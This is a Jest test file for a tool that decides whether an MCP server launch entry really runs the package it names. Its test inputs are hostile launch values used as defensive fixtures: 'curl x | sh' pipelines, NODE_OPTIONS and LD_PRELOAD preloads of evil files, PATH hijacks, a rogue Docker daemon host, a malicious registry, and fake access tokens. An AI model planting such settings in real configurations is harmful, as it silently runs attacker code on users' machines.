/**
 * Review round 2 (/tmp/rv2/c*): an entry is a package identity only when the package is what
 * runs. Launchers by untrusted path are local; anything that could run other code first,
 * instead or alongside withholds the identity (same name, no version or purl) or, when what
 * runs cannot be told, makes it `unknown`.
 */
import { describe, expect, it } from '@jest/globals'
import type { RawLaunch } from '../../src/config/types.js'
import { describePackage } from '../../src/resolve/describe.js'
import { identifyServer } from '../../src/resolve/identify.js'
import { environmentWithholdings } from '../../src/resolve/launch-environment.js'
import { isWellKnownDirectory, launcherName } from '../../src/resolve/launcher-location.js'
import { runsOwnBin } from '../../src/resolve/package-bin.js'
import type { PackageIdentity } from '../../src/resolve/types.js'
import { commandEntry, entry } from './server-entry.js'

const SEMVER: PackageIdentity = {
  ecosystem: 'npm',
  name: 'semver',
  versionSpec: '7.6.0',
  version: '7.6.0',
  pinned: true,
  purl: 'pkg:npm/semver@7.6.0',
  launcher: 'npx',
  resolution: { status: 'exact' }
}

const FETCH: PackageIdentity = {
  ecosystem: 'pypi',
  name: 'mcp-server-fetch',
  versionSpec: '==2025.4.7',
  version: '2025.4.7',
  pinned: true,
  purl: 'pkg:pypi/mcp-server-fetch@2025.4.7',
  launcher: 'uvx',
  resolution: { status: 'exact' }
}

/** `p` withheld: no version or purl, pinned as written, `not graded: <why>`. */
function withheld(p: PackageIdentity, why: string): PackageIdentity {
  return {
    ...p,
    version: null,
    purl: null,
    resolution: { status: 'n/a', message: `not graded: ${why}` }
  }
}

/** True when `p` cannot be graded: no purl (npm/PyPI/OCI) or not a package at all. */
function ungradeable(p: PackageIdentity): boolean {
  return p.purl === null && p.version === null
}

describe('item 1: a launcher is the launcher only as a bare name or from a well-known place', () => {
  it.each([
    ['./npx', ['-y', 'semver@7.6.0']],
    ['tools/bin/npx', ['-y', 'semver@7.6.0']],
    ['${workspaceFolder}/npx', ['-y', 'semver@7.6.0']],
    ['C:\\evil\\npx.bat', ['-y', 'semver@7.6.0']],
    ['/home/me/project/npx', ['-y', 'semver@7.6.0']],
    ['/usr/local/bin/../../../home/me/npx', ['-y', 'semver@7.6.0']],
    ['/home/me/.bun/bin/npx', ['-y', 'semver@7.6.0']],
    ['./uvx', ['mcp-server-fetch==2025.4.7']],
    ['./docker', ['run', '-i', '--rm', `mcp/fetch@sha256:${'0'.repeat(64)}`]],
    ['./bash', ['-c', 'npx -y semver@7.6.0']],
    ['C:\\evil\\cmd.exe', ['/c', 'npx', '-y', 'semver@7.6.0']],
    ['./deno', ['run', 'npm:semver@7.6.0']]
  ])('%s → local (the path), with a note (review: c7)', (command, args) => {
    const r = identifyServer(commandEntry(command, args))
    expect(r.package).toEqual({
      ecosystem: 'local',
      name: command,
      versionSpec: null,
      version: null,
      pinned: false,
      purl: null,
      launcher: 'executable',
      resolution: { status: 'n/a' }
    })
    expect(r.notes.join('\n')).toContain('is not in a well-known install location')
  })

  it('a launcher name held in a variable is unknown', () => {
    const r = identifyServer(commandEntry('$NPX', ['-y', 'semver@7.6.0']))
    expect(r.package.ecosystem).toBe('unknown')
  })

  it.each([
    ['npx', SEMVER],
    ['npx.cmd', SEMVER],
    ['NPX.EXE', SEMVER],
    ['/usr/local/bin/npx', SEMVER],
    ['/opt/homebrew/bin/npx', SEMVER],
    ['/Users/ckw/.nvm/versions/node/v18.20.4/bin/npx', SEMVER],
    ['/Users/abdullahhashim/.asdf/shims/npx', SEMVER],
    ['~/.volta/bin/npx', SEMVER],
    ['C:\\Program Files\\nodejs\\npx.cmd', SEMVER],
    ['%APPDATA%\\npm\\npx.cmd', SEMVER],
    ['C:\\Users\\me\\AppData\\Roaming\\npm\\npx.cmd', SEMVER],
    ['/usr/lib/node_modules/npm/bin/npx', SEMVER],
    ['~/.bun/bin/bunx', { ...SEMVER, launcher: 'bunx' }]
  ])('%s is the launcher', (command, expected) => {
    expect(identifyServer(commandEntry(command, ['-y', 'semver@7.6.0'])).package).toEqual(expected)
  })

  it('accepts uv, Docker and shells from their install locations (corpus and installers)', () => {
    expect(
      identifyServer(
        commandEntry('/Users/benknight/.local/bin/uvx', ['mcp-server-fetch==2025.4.7'])
      ).package
    ).toEqual(FETCH)
    expect(
      identifyServer(commandEntry('~/.cargo/bin/uvx', ['mcp-server-fetch==2025.4.7'])).package
    ).toEqual(FETCH)
    const docker = identifyServer(
      commandEntry('/Applications/Docker.app/Contents/Resources/bin/docker', [
        'run',
        '-i',
        `mcp/fetch@sha256:${'0'.repeat(64)}`
      ])
    )
    expect(docker.package.pinned && docker.package.purl !== null).toBe(true)
    const bash = identifyServer(commandEntry('/bin/bash', ['-c', 'npx -y semver@7.6.0']))
    expect(bash.package).toEqual(SEMVER)
  })

  it('launcherName: bare names and well-known locations only', () => {
    expect(launcherName('npx')).toBe('npx')
    expect(launcherName('"C:\\Program Files\\nodejs\\npx.cmd"')).toBe('npx')
    expect(
      launcherName(
        '/Users/phatblat/.local/share/mise/installs/uv/0.7.16/uv-aarch64-apple-darwin/uv'
      )
    ).toBe('uv')
    expect(launcherName('/home/me/.local/bin/uvx')).toBe('uvx')
    // Right directory, wrong program: ~/.local/bin is uv's and pipx's, not npm's.
    expect(launcherName('/home/me/.local/bin/npx')).toBeNull()
    expect(launcherName('/usr/local/bin/./npx')).toBeNull()
    expect(launcherName('/usr//bin/npx')).toBeNull()
    expect(launcherName('/home/runner/work/repo/repo/npx')).toBeNull()
    expect(launcherName('${env:NPX}')).toBeNull()
  })

  it('a set-up command by path is a script, not the builtin it is named after', () => {
    const r = identifyServer(commandEntry('bash', ['-c', './echo hi; npx -y semver@7.6.0']))
    expect(r.package).toMatchObject({
      ecosystem: 'unknown',
      resolution: { message: 'runs several commands: echo, npx' }
    })
  })
})

describe('item 2: cmd.exe runs a program from the directory a `cd` moved it to', () => {
  it('withholds a bare launcher after cd in a cmd string, not in PowerShell or POSIX', () => {
    const cmd = identifyServer(commandEntry('cmd', ['/c', 'cd tools && npx -y semver@7.6.0']))
    expect(cmd.package).toEqual(
      withheld(
        SEMVER,
        '`cd` in the `cmd /c` string moves cmd.exe to another directory, and cmd.exe runs a program found there before looking on PATH'
      )
    )
    expect(
      identifyServer(commandEntry('cmd', ['/c', 'npx', '-y', 'semver@7.6.0'])).package
    ).toEqual(SEMVER)
    expect(
      identifyServer(commandEntry('pwsh', ['-Command', 'Set-Location tools; npx -y semver@7.6.0']))
        .package
    ).toEqual(SEMVER)
    expect(
      identifyServer(commandEntry('bash', ['-c', 'cd tools && npx -y semver@7.6.0'])).package
    ).toEqual(SEMVER)
  })
})

describe('item 2: a changed PATH means a bare launcher may be another program', () => {
  const PATH_WHY =
    'env PATH lists a directory that is not a well-known install location (a relative path, the working directory, a variable or a project directory), so the launcher found there may be another program'

  it.each<[string, Partial<RawLaunch>]>([
    [
      'env PATH (review: c7 PATHenv)',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { PATH: './evilbin:/usr/bin' } }
    ],
    [
      'export PATH in a shell string (review: c15 sh_PATH)',
      { command: 'bash', args: ['-c', 'export PATH=./evil:$PATH; npx -y semver@7.6.0'] }
    ],
    ['PATH=… before the command', { command: 'PATH=./evil:$PATH npx -y semver@7.6.0' }],
    [
      'an empty entry (the working directory)',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { PATH: '/usr/bin::/bin' } }
    ],
    [
      'a workspace directory',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { PATH: '${workspaceFolder}/bin' } }
    ],
    ['cmd set PATH', { command: 'cmd', args: ['/c', 'set PATH=.;%PATH% && npx -y semver@7.6.0'] }],
    [
      'Windows Path, any case',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { Path: 'C:\\tools;%PATH%' } }
    ]
  ])('%s', (_source, launch) => {
    const r = identifyServer(entry(launch))
    expect(r.package).toEqual(
      withheld(
        SEMVER,
        PATH_WHY.replace('env PATH', `env ${Object.keys(launch.env ?? {})[0] ?? 'PATH'}`)
      )
    )
  })

  it('keeps well-known directories and the inherited PATH (corpus: 0xOsiris/dots)', () => {
    for (const PATH of [
      '/opt/homebrew/bin:/usr/local/bin:/usr/bin:/bin',
      '$HOME/.local/bin:$PATH',
      'C:\\Program Files\\nodejs;%PATH%'
    ]) {
      const r = identifyServer(
        entry({ command: 'npx', args: ['-y', 'semver@7.6.0'], env: { PATH } })
      )
      expect(r.package).toEqual(SEMVER)
    }
    expect(isWellKnownDirectory('/opt/homebrew/bin/')).toBe(true)
    expect(isWellKnownDirectory('.')).toBe(false)
    expect(isWellKnownDirectory('')).toBe(false)
  })
})

describe('item 3: a command substitution anywhere is a program that runs', () => {
  it.each([
    ['bash', ['-c', 'echo $(node ./evil.js); npx -y semver@7.6.0']],
    ['bash', ['-c', 'export X=$(npx -y evil-pkg@1.0.0) && npx -y semver@7.6.0']],
    ['bash', ['-c', 'echo $((1)) $(python3 evil.py) && npx -y semver@7.6.0']],
    ['sh', ['-c', 'echo `node evil.js`; npx -y semver@7.6.0']],
    ['sh', ['-c', ': ${X:=$(node evil.js)}; npx -y semver@7.6.0']],
    ['bash', ['-c', 'cd "$(node evil.js)" && npx -y semver@7.6.0']],
    ['bash', ['-c', 'ulimit -c $(python3 evil.py); npx -y semver@7.6.0']],
    ['bash', ['-c', 'npx -y semver@7.6.0 --root "$(node evil.js)"']],
    ['pwsh', ['-c', "npx -y semver@7.6.0 @(iex 'calc')"]],
    ['pwsh', ['-c', "echo $(iex 'calc'); npx -y semver@7.6.0"]],
    ['bash', ['-c', "echo 'require(1)' > node_modules/.hooks.js; npx -y semver@7.6.0"]]
  ])('%s %j → unknown (review: c1, c15)', (command, args) => {
    const r = identifyServer(commandEntry(command, args))
    expect(r.package.ecosystem).toBe('unknown')
    expect(r.package.resolution.message).toMatch(/^runs several commands: /)
  })
})

describe('item 4: a call string counts only when it runs the package bin', () => {
  it('identifies what a call string runs when it is not the bin (review: c1 npxcall2, c8 call)', () => {
    const r = identifyServer(commandEntry('npx', ['--package=semver@7.6.0', '--call=node evil.js']))
    expect(r.package).toMatchObject({ ecosystem: 'local', name: 'evil.js', launcher: 'node' })
    expect(r.notes.join('\n')).toContain('which is not a bin of the package installed with')
  })

  it('a shell pipeline in the call string is unknown (review: c1 npxcall)', () => {
    const r = identifyServer(commandEntry('npx', ['-y', '-p', 'semver@7.6.0', '-c', 'curl x | sh']))
    expect(r.package).toMatchObject({
      ecosystem: 'unknown',
      resolution: { message: 'runs several commands: curl, sh' }
    })
  })

  it('keeps the package when the call string or the command is its own bin', () => {
    expect(
      identifyServer(commandEntry('npx', ['-p', 'semver@7.6.0', '-c', 'semver --help'])).package
    ).toEqual(SEMVER)
    expect(
      identifyServer(commandEntry('npx', ['-p', 'semver@7.6.0', 'semver', '1.2.3'])).package
    ).toEqual(SEMVER)
  })

  it('does not take a general program for the bin, even one named like the package', () => {
    const node = identifyServer(commandEntry('npx', ['-p', '@types/node@20.0.0', 'node', 'x.js']))
    expect(node.package).toMatchObject({ ecosystem: 'local', name: 'x.js' })
    const awk = identifyServer(
      commandEntry('npx', ['-p', 'semver@7.6.0', 'awk', 'BEGIN{system("id")}'])
    )
    expect(awk.package).toMatchObject({ ecosystem: 'unknown', name: 'awk' })
  })

  it('reads the variables a call string sets for the bin', () => {
    for (const call of [
      "NODE_OPTIONS='-r ./evil.js' semver",
      'export LD_PRELOAD=./x.so && semver'
    ]) {
      const r = identifyServer(commandEntry('npx', ['-p', 'semver@7.6.0', '-c', call]))
      expect(r.package).toMatchObject({ name: 'semver', version: null, purl: null, pinned: true })
    }
  })

  it('withholds a package the call string runs, with the other package installed alongside', () => {
    const r = identifyServer(
      commandEntry('npx', ['-p', 'evil-pkg@1.0.0', '-c', 'npx -y semver@7.6.0'])
    )
    expect(r.package).toEqual(
      withheld(SEMVER, '--package installs a package alongside the command that runs')
    )
  })

  it('treats uvx --from and pipx run --spec with a command that is not the bin the same way', () => {
    for (const [command, args] of [
      ['uvx', ['--from', 'mcp-server-fetch==2025.4.7', 'evilbin']],
      ['pipx', ['run', '--spec', 'mcp-server-fetch==2025.4.7', 'evilbin']],
      ['uvx', ['--from', 'mcp-server-fetch==2025.4.7', 'python', '-c', 'import os']]
    ] as const) {
      const r = identifyServer(commandEntry(command, [...args]))
      expect(r.package.ecosystem === 'unknown' || r.package.ecosystem === 'local').toBe(true)
      expect(ungradeable(r.package)).toBe(true)
    }
    expect(
      identifyServer(
        commandEntry('uvx', ['--from', 'mcp-server-fetch==2025.4.7', 'mcp-server-fetch'])
      ).package
    ).toEqual(FETCH)
  })

  it('runsOwnBin: a resemblance to the package name, never a general program', () => {
    expect(runsOwnBin('context7-mcp', '@upstash/context7-mcp')).toBe(true)
    expect(runsOwnBin('mcp-server-filesystem', '@modelcontextprotocol/server-filesystem')).toBe(
      true
    )
    expect(runsOwnBin('mcp_server_fetch', 'mcp-server-fetch')).toBe(true)
    expect(runsOwnBin('node', '@types/node')).toBe(false)
    expect(runsOwnBin('python3', 'python3')).toBe(false)
    expect(runsOwnBin('./semver', 'semver')).toBe(false)
    expect(runsOwnBin('evilbin', 'semver')).toBe(false)
    expect(runsOwnBin('semver', null)).toBe(false)
  })
})

describe('item 5: other packages installed alongside', () => {
  const ALONGSIDE =
    'installs other packages alongside, whose install scripts and start-up files run too'

  it.each<[string, Partial<RawLaunch>, PackageIdentity]>([
    [
      'npx -p a -p b bin (review: c1 multi-p)',
      { command: 'npx', args: ['-y', '-p', 'evil-pkg@1.0.0', '-p', 'semver@7.6.0', 'semver'] },
      withheld(
        SEMVER,
        "--package installs 2 packages, so the others' install scripts and bins run too"
      )
    ],
    [
      'pnpm dlx --package a --package b',
      {
        command: 'pnpm',
        args: ['dlx', '--package', 'evil-pkg@1.0.0', '--package', 'semver@7.6.0', 'semver']
      },
      withheld(
        { ...SEMVER, launcher: 'pnpm dlx' },
        "--package installs 2 packages, so the others' install scripts and bins run too"
      )
    ],
    [
      'uvx --with x (review: c1 uvx-with)',
      { command: 'uvx', args: ['--with', 'evil-pkg==1.0', 'mcp-server-fetch==2025.4.7'] },
      withheld(FETCH, `--with ${ALONGSIDE}`)
    ],
    [
      'uv tool run --with-requirements',
      {
        command: 'uv',
        args: ['tool', 'run', '--with-requirements', 'r.txt', 'mcp-server-fetch==2025.4.7']
      },
      withheld({ ...FETCH, launcher: 'uv tool run' }, `--with-requirements ${ALONGSIDE}`)
    ],
    [
      'uvx --with-editable',
      { command: 'uvx', args: ['--with-editable', './x', 'mcp-server-fetch==2025.4.7'] },
      withheld(FETCH, `--with-editable ${ALONGSIDE}`)
    ],
    [
      'pipx run --preinstall',
      {
        command: 'pipx',
        args: [
          'run',
          '--preinstall',
          'evil',
          '--spec',
          'mcp-server-fetch==2025.4.7',
          'mcp-server-fetch'
        ]
      },
      withheld({ ...FETCH, launcher: 'pipx run' }, `--preinstall ${ALONGSIDE}`)
    ],
    [
      'pipx run --pip-args naming a package',
      {
        command: 'pipx',
        args: [
          'run',
          '--pip-args=evil-pkg --no-cache-dir',
          '--spec',
          'mcp-server-fetch==2025.4.7',
          'mcp-server-fetch'
        ]
      },
      withheld(
        { ...FETCH, launcher: 'pipx run' },
        '--pip-args passes pip other arguments, which can install other packages too'
      )
    ]
  ])('%s', (_source, launch, expected) => {
    expect(identifyServer(entry(launch)).package).toEqual(expected)
  })

  it('keeps a single --package and known pip switches', () => {
    expect(
      identifyServer(commandEntry('npx', ['-y', '-p', 'semver@7.6.0', 'semver'])).package
    ).toEqual(SEMVER)
    expect(
      identifyServer(
        commandEntry('pipx', [
          'run',
          '--pip-args=--no-cache-dir --timeout 30',
          '--spec',
          'mcp-server-fetch==2025.4.7',
          'mcp-server-fetch'
        ])
      ).package
    ).toEqual({ ...FETCH, launcher: 'pipx run' })
  })
})

describe('item 6: settings that load code or change the launcher withhold the identity', () => {
  it.each<[string, Partial<RawLaunch>, string]>([
    [
      'NODE_OPTIONS --import (review: c1 nodeopts)',
      {
        command: 'npx',
        args: ['-y', 'semver@7.6.0'],
        env: { NODE_OPTIONS: '--import=data:text/javascript,console.log(1)' }
      },
      'env NODE_OPTIONS sets Node.js options not known to leave the program alone (--import)'
    ],
    [
      'NODE_OPTIONS -r (review: c1 nodeopts2)',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { NODE_OPTIONS: '-r ./evil.js' } },
      'env NODE_OPTIONS sets Node.js options not known to leave the program alone (-r)'
    ],
    [
      'NODE_OPTIONS exported in the shell string (review: c15 sh_NODE_OPT)',
      { command: 'bash', args: ['-c', "export NODE_OPTIONS='-r ./evil.js'; npx -y semver@7.6.0"] },
      'env NODE_OPTIONS sets Node.js options not known to leave the program alone (-r)'
    ],
    [
      'BASH_ENV (review: c1 bashenv)',
      { command: 'bash', args: ['-c', 'npx -y semver@7.6.0'], env: { BASH_ENV: './evil.sh' } },
      'env BASH_ENV runs a script in every non-interactive bash'
    ],
    [
      'ENV',
      { command: 'sh', args: ['-c', 'npx -y semver@7.6.0'], env: { ENV: './evil.sh' } },
      'env ENV runs a script in every sh'
    ],
    [
      'LD_PRELOAD (review: c1 ldpreload)',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { LD_PRELOAD: './evil.so' } },
      'env LD_PRELOAD loads a shared library into every process'
    ],
    [
      'LD_LIBRARY_PATH',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { LD_LIBRARY_PATH: './lib' } },
      'env LD_LIBRARY_PATH makes processes load shared libraries from other directories'
    ],
    [
      'DYLD_INSERT_LIBRARIES',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { DYLD_INSERT_LIBRARIES: './x.dylib' } },
      'env DYLD_INSERT_LIBRARIES loads a library into every process'
    ],
    [
      'an exported bash function',
      {
        command: 'bash',
        args: ['-c', 'npx -y semver@7.6.0'],
        env: { 'BASH_FUNC_npx%%': '() { node evil.js; }' }
      },
      'env BASH_FUNC_npx%% defines a shell function that can replace a command'
    ],
    [
      'NODE_PATH',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { NODE_PATH: './lib' } },
      'env NODE_PATH makes Node.js load modules from other directories'
    ],
    [
      'npm_config_userconfig (review: c1 userconfig-env)',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { npm_config_userconfig: './npmrc' } },
      'env npm_config_userconfig changes an npm setting not known to leave the package and its source alone'
    ],
    [
      'NPM_CONFIG_GLOBALCONFIG',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { NPM_CONFIG_GLOBALCONFIG: './npmrc' } },
      'env NPM_CONFIG_GLOBALCONFIG changes an npm setting not known to leave the package and its source alone'
    ],
    [
      '--userconfig (review: c1 userconfig)',
      { command: 'npx', args: ['-y', '--userconfig', './npmrc', 'semver@7.6.0'] },
      '--userconfig is a launcher option not known to leave the package and its source alone'
    ],
    [
      'npx --node-options= (review: c1 prefixnode)',
      { command: 'npx', args: ['--node-options=--require=./evil.js', '-y', 'semver@7.6.0'] },
      '--node-options is a launcher option not known to leave the package and its source alone'
    ],
    [
      'npx --script-shell',
      { command: 'npx', args: ['--script-shell', './evil', '-y', 'semver@7.6.0'] },
      '--script-shell is a launcher option not known to leave the package and its source alone'
    ],
    [
      'npx --prefix',
      { command: 'npx', args: ['--prefix', './vendor', '-y', 'semver@7.6.0'] },
      '--prefix is a launcher option not known to leave the package and its source alone'
    ],
    [
      'npx --cache',
      { command: 'npx', args: ['--cache', './cache', '--offline', '-y', 'semver@7.6.0'] },
      '--cache is a launcher option not known to leave the package and its source alone'
    ]
  ])('npm: %s', (_source, launch, why) => {
    const r = identifyServer(entry(launch))
    expect(r.package).toEqual(withheld(SEMVER, why))
    expect(r.notes).toContain(`${why}: what runs may not be semver, so it is not graded`)
  })

  it.each<[string, Partial<RawLaunch>, string]>([
    [
      'PYTHONSTARTUP',
      { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'], env: { PYTHONSTARTUP: './x.py' } },
      'env PYTHONSTARTUP changes how Python starts or where it loads modules from'
    ],
    [
      'PYTHONPATH',
      { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'], env: { PYTHONPATH: './tools' } },
      'env PYTHONPATH changes how Python starts or where it loads modules from'
    ],
    [
      'UV_CONFIG_FILE',
      {
        command: 'uvx',
        args: ['mcp-server-fetch==2025.4.7'],
        env: { UV_CONFIG_FILE: './uv.toml' }
      },
      'env UV_CONFIG_FILE changes a uv, pip or pipx setting not known to leave the package and its source alone'
    ],
    [
      'PIP_CONFIG_FILE',
      {
        command: 'uvx',
        args: ['mcp-server-fetch==2025.4.7'],
        env: { PIP_CONFIG_FILE: './pip.conf' }
      },
      'env PIP_CONFIG_FILE changes a uv, pip or pipx setting not known to leave the package and its source alone'
    ],
    [
      'UV_PYTHON by path',
      { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'], env: { UV_PYTHON: './bin/python' } },
      'env UV_PYTHON names a Python interpreter by path, so that program runs the package'
    ],
    [
      'uvx --python ./x',
      { command: 'uvx', args: ['--python', './bin/python', 'mcp-server-fetch==2025.4.7'] },
      '--python names a Python interpreter by path, so that program runs the package'
    ],
    [
      'uvx --config-file',
      { command: 'uvx', args: ['--config-file', './uv.toml', 'mcp-server-fetch==2025.4.7'] },
      '--config-file is a launcher option not known to leave the package and its source alone'
    ]
  ])('PyPI: %s', (_source, launch, why) => {
    expect(identifyServer(entry(launch)).package).toEqual(withheld(FETCH, why))
  })

  it('withholds images run against another daemon or with another entrypoint', () => {
    const image = `mcp/fetch@sha256:${'a'.repeat(64)}`
    for (const [args, env, why] of [
      [
        ['-H', 'tcp://evil:2375', 'run', image],
        {},
        '-H is an engine option not known to leave the daemon and image alone'
      ],
      [
        ['run', '--entrypoint', 'sh', image, '-c', 'curl x|sh'],
        {},
        '--entrypoint runs another program instead of the image entrypoint'
      ],
      [
        ['run', image],
        { DOCKER_HOST: 'tcp://evil:2375' },
        'env DOCKER_HOST makes the engine talk to another daemon'
      ]
    ] as const) {
      const r = identifyServer(entry({ command: 'docker', args: [...args], env: { ...env } }))
      expect(r.package).toMatchObject({
        ecosystem: 'oci',
        name: 'mcp/fetch',
        version: null,
        purl: null,
        pinned: true,
        resolution: { status: 'n/a', message: `not graded: ${why}` }
      })
    }
  })

  it('withholds deno run npm: with a preload, and mise installing other tools', () => {
    const deno = identifyServer(
      commandEntry('deno', ['run', '--preload', './evil.ts', 'npm:semver@7.6.0'])
    )
    expect(deno.package).toEqual(
      withheld(
        { ...SEMVER, launcher: 'deno' },
        '--preload is a launcher option not known to leave the package and its source alone'
      )
    )
    const mise = identifyServer(
      commandEntry('mise', ['x', 'npm:evil-pkg', '--', 'npx', '-y', 'semver@7.6.0'])
    )
    expect(mise.package).toEqual(
      withheld(
        SEMVER,
        '`mise x` tools install tools other than the core runtimes (a backend such as npm:, pipx:, ubi:)'
      )
    )
  })

  it('keeps settings known to be harmless, and reads each family only', () => {
    for (const env of <Record<string, string>[]>[
      { NODE_ENV: 'production', NODE_OPTIONS: '--max-old-space-size=4096 --no-warnings' },
      // An application's own `ENV` setting names no start-up file.
      { ENV: 'production' },
      { npm_config_loglevel: 'error', NPM_CONFIG_UPDATE_NOTIFIER: 'false' },
      // PYTHONPATH is no concern of npx (corpus: 0K-cool/athena sets it for python servers).
      { PYTHONPATH: './tools/magpie' }
    ]) {
      expect(
        identifyServer(entry({ command: 'npx', args: ['-y', 'semver@7.6.0'], env })).package
      ).toEqual(SEMVER)
    }
    for (const env of <Record<string, string>[]>[
      { PYTHONUNBUFFERED: '1', PYTHONIOENCODING: 'utf-8', UV_PYTHON: '3.12' },
      { NODE_OPTIONS: '-r ./x.js' }
    ]) {
      expect(
        identifyServer(entry({ command: 'uvx', args: ['mcp-server-fetch==2025.4.7'], env })).package
      ).toEqual(FETCH)
    }
    expect(environmentWithholdings({ NODE_OPTIONS: '--require x' }, 'pypi')).toEqual([])
  })
})

describe('item 8: no value from the entry reaches a name, spec, message or note unmasked', () => {
  const GHP = 'ghp_R3alLookingTok3nAbCdEfGhIjKlMnOpQrStUv12'
  const SK = 'sk-abcdEFGH1234ijklMNOP5678qrst'

  it.each<[string, Partial<RawLaunch>]>([
    [
      '--package git spec with a token (review: c11 multi2)',
      {
        command: 'npx',
        args: ['-y', '-p', `git+https://${GHP}@github.com/a/b.git`, '-p', 'c@1.0.0', 'zzz']
      }
    ],
    [
      'Smithery run URL with an api_key (review: c11 smith)',
      {
        command: 'npx',
        args: [
          '-y',
          '@smithery/cli@1.0.0',
          'run',
          `https://server.smithery.ai/@x/y/mcp?api_key=${SK}`
        ]
      }
    ],
    ['WSL distribution', { command: 'wsl', args: ['-d', GHP, 'npx', '-y', 'semver@7.6.0'] }],
    ['sudo user', { command: 'sudo', args: ['-u', SK, 'npx', '-y', 'semver@7.6.0'] }],
    [
      'mise tool spec',
      { command: 'mise', args: ['x', `npm:https://u:${GHP}@h.example/p.tgz`, '--', 'npx', 'x'] }
    ],
    ['a tag that is a token', { command: 'npx', args: ['-y', `semver@${GHP}`] }],
    ['an alias', { command: 'npx', args: ['-y', `x@npm:semver@${GHP}`] }],
    [
      'a bridge spec',
      { command: 'npx', args: ['-y', `mcp-remote@${SK}`, 'https://h.example/mcp'] }
    ],
    ['a bin that is a token', { command: 'npx', args: ['-p', 'semver@7.6.0', GHP] }],
    [
      'a uvx --from command that is a token',
      { command: 'uvx', args: ['--from', 'mcp-server-fetch==2025.4.7', SK] }
    ],
    ['a uv @version that is a token', { command: 'uvx', args: [`mcp-server-fetch@${GHP}`] }],
    ['PyPI extras', { command: 'uvx', args: [`mcp-server-fetch[${GHP}]==1.0`] }],
    ['a PEP 440 specifier', { command: 'uvx', args: [`mcp-server-fetch==${SK}`] }],
    ['python -m', { command: 'python', args: ['-m', GHP] }],
    ['a local script', { command: 'node', args: [`./${GHP}.js`] }],
    ['an unknown command', { command: GHP, args: [] }],
    ['a launcher by path', { command: `./${GHP}/npx`, args: ['-y', 'semver@7.6.0'] }],
    ['several commands', { command: 'bash', args: ['-c', `${GHP} x; npx -y semver@7.6.0`] }],
    ['an unknown docker option', { command: 'docker', args: ['run', `--${SK}`, 'mcp/fetch'] }],
    ['an unknown npx option', { command: 'npx', args: [`--${GHP}`, 'semver@7.6.0'] }],
    ['a cmd switch', { command: 'cmd', args: [`/q:${GHP}`, '/c', 'npx', '-y', 'semver@7.6.0'] }],
    ['an image name', { command: 'docker', args: ['run', `ghcr.io/${GHP}/x:1`] }],
    [
      'an env variable name',
      { command: 'npx', args: ['-y', 'semver@7.6.0'], env: { [GHP]: '1', PATH: './x' } }
    ],
    [
      'a registry URL with credentials',
      { command: 'npx', args: ['--registry', `https://u:${GHP}@r.example/`, 'semver@7.6.0'] }
    ],
    ['a remote URL', { url: `https://h.example/mcp?key=${SK}` }]
  ])('%s', (_source, launch) => {
    const r = identifyServer(entry(launch))
    const shown = [
      r.package.name ?? '',
      r.package.versionSpec ?? '',
      r.package.resolution.message ?? '',
      describePackage(r.package),
      ...r.notes,
      ...r.wrappers
    ]
    for (const text of shown) {
      expect(text).not.toContain(GHP)
      expect(text).not.toContain(SK)
    }
  })
})

describe('item 8: user info is removed up to the last @ before the host', () => {
  it('drops a password that holds @ from a git spec (review: c2 atpw)', () => {
    const r = identifyServer(
      commandEntry('npx', ['-y', 'git+https://admin:p@ssPARTLEAK2@github.com/a/b.git#main'])
    )
    expect(r.package.name).toBe('git+https://github.com/a/b.git#main')
    expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain('PARTLEAK2')
  })
})

describe('item 9: a withheld exact spec stays pinned, and says why it is not graded', () => {
  it('an exact spec under npm_config_registry (review: c21)', () => {
    const r = identifyServer(
      entry({
        command: 'npx',
        args: ['-y', '@upstash/context7-mcp@1.0.31'],
        env: { npm_config_registry: 'https://npm.evil.example/' }
      })
    )
    expect(r.package).toEqual({
      ecosystem: 'npm',
      name: '@upstash/context7-mcp',
      versionSpec: '1.0.31',
      version: null,
      pinned: true,
      purl: null,
      launcher: 'npx',
      resolution: {
        status: 'n/a',
        message:
          'not graded: env npm_config_registry installs packages from https://npm.evil.example/, not the public registry'
      }
    })
    expect(describePackage(r.package)).toBe('@upstash/context7-mcp@1.0.31 (not graded)')
  })

  it('a range stays unpinned, and several reasons are counted in the message', () => {
    const r = identifyServer(
      entry({
        command: 'npx',
        args: ['--registry', 'https://r.example/', '-y', 'semver@^7'],
        env: { LD_PRELOAD: './x.so' }
      })
    )
    expect(r.package.pinned).toBe(false)
    expect(r.package.resolution.message).toBe(
      'not graded: --registry installs packages from https://r.example/, not the public registry (and 1 more, see the notes)'
    )
    expect(r.notes.filter((n) => n.endsWith('so it is not graded'))).toHaveLength(2)
  })
})
